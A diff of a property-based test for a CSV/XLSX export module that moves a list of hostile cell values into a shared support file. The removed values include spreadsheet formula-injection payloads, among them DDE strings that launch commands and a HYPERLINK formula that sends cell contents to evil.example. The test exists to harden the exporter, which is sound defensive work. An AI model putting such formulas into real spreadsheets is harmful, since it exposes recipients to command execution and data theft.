@@ -6,72 +6,13 @@ import { cleanText, MOST_LETTERS, wallClock } from '../../src/server/export/cell
 import { csv, guard, unguard } from '../../src/server/export/csv'
 import { disposition } from '../../src/server/export/sheet'
 import { xlsx } from '../../src/server/export/xlsx'
+import { cell, nasty } from '../support/cells'
 import { readCsv } from '../support/rfc4180'
 
 /** Cells: 20,000 in all in CI, more by RUNS. */
 const RUNS = Number(process.env['RUNS'] ?? 200)
 const CELLS = 100
 
-const nasty = [
-  '=1+1',
-  '+86 138',
-  '-2+3',
-  '@SUM(A1)',
-  '\t=1',
-  '\r=1',
-  '\n=1',
-  '\0=1',
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠x',
-  '  =1+1',
-  '\u00a0=1',
-  '\u3000=1',
-  '\u200b=1',
-  '"=1+1"',
-  "'=1+1",
-  "''",
-  "=cmd|' /C calc'!A0",
-  '=DDE("cmd";"/C calc";"x")',
-  '=HYPERLINK("http://evil.example?"&A1,"看")',
-  'a;=1+1',
-  'a\t=1+1',
-  'a\n=1+1',
-  'a\n"=1+1',
-  '",=1+1,"',
-  '王建国',
-  '采购\u0301部',
-  '\ud800',
-  'x\udc00y',
-  '😀王',
-  '_x000D_',
-  '<c><f>1+1</f></c>',
-  '&amp;]]>',
-  '\u202e=1',
-  '\ufeff=1',
-  '\u2212 1',
-  '=',
-  "'",
-  '',
-  ' ',
-]
-const cell = fc.oneof(
-  { weight: 3, arbitrary: fc.constantFrom(...nasty) },
-  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
-  { weight: 2, arbitrary: fc.array(fc.constantFrom(...nasty), { maxLength: 4 }).map((parts) => parts.join('')) },
-  {
-    weight: 2,
-    arbitrary: fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n\0;,"\'｜|＝＋－＠ 王\ud800'), maxLength: 12 }),
-  },
-  {
-    weight: 1,
-    arbitrary: fc.string({
-      unit: fc.integer({ min: 0, max: 0xffff }).map((n) => String.fromCharCode(n)),
-      maxLength: 12,
-    }),
-  },
-)
 const cells = fc.array(cell, { minLength: CELLS, maxLength: CELLS })
 
 /** What Excel, WPS and LibreOffice take for the beginning of a formula, after whatever they skip; asked of each place where some reader may begin a cell. */
